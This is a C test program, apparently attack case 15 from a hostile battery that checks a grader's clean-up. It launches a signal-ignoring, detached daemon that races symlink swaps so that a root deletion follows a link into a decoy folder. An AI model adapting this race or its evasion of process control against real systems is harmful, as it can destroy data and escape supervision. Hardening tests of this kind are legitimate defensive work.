/*
 * Attack 15 (symlink race on clean-up): after a run the grader, as root, deletes the program's
 * working folder. A daemon of ours keeps swapping what is in it (a folder full of files) with a
 * symlink to a folder outside, and tries to swap the working folder itself, hoping the clean-up
 * follows a link at the wrong moment and deletes the outside folder's files. It aims at the
 * battery's decoy folder (/tmp/hostile-decoy*), never at anything else (with no decoy, at a
 * folder of its own). The grader must kill every process of the run before it cleans up, and
 * clean up without following links: the decoys stay as they were, no process is left.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <glob.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void fill(const char *dir)
{
	mkdir(dir, 0777);
	for (char c = 'a'; c <= 'z'; c++) {
		char path[PATH_MAX];
		snprintf(path, sizeof path, "%s/%c", dir, c);
		int fd = open(path, O_WRONLY | O_CREAT, 0666);
		if (fd >= 0)
			close(fd);
	}
}

int main(void)
{
	char cwd[PATH_MAX], moved[PATH_MAX + 8], target[PATH_MAX];
	if (!getcwd(cwd, sizeof cwd))
		return 1;
	glob_t g;
	if (glob("/tmp/hostile-decoy*/", 0, NULL, &g) == 0 && g.gl_pathc > 0)
		snprintf(target, sizeof target, "%s", g.gl_pathv[0]);
	else
		snprintf(target, sizeof target, "/tmp/hostile-15-target-%d", (int)getpid());
	fill("d");
	snprintf(moved, sizeof moved, "%s.moved", cwd);
	if (fork() == 0) {
		setsid();
		if (fork() != 0)
			_exit(0);
		for (int s = 1; s < NSIG; s++)
			signal(s, SIG_IGN);
		time_t end = time(NULL) + 120; /* a backstop: never outlive the battery */
		while (time(NULL) < end) {
			if (rename("d", "d.real") == 0) {
				if (symlink(target, "d") != 0)
					rename("d.real", "d");
			} else if (unlink("d") == 0) {
				rename("d.real", "d");
			}
			if (rename(cwd, moved) == 0 && symlink(target, cwd) != 0)
				rename(moved, cwd);
		}
		_exit(0);
	}
	return 1;
}
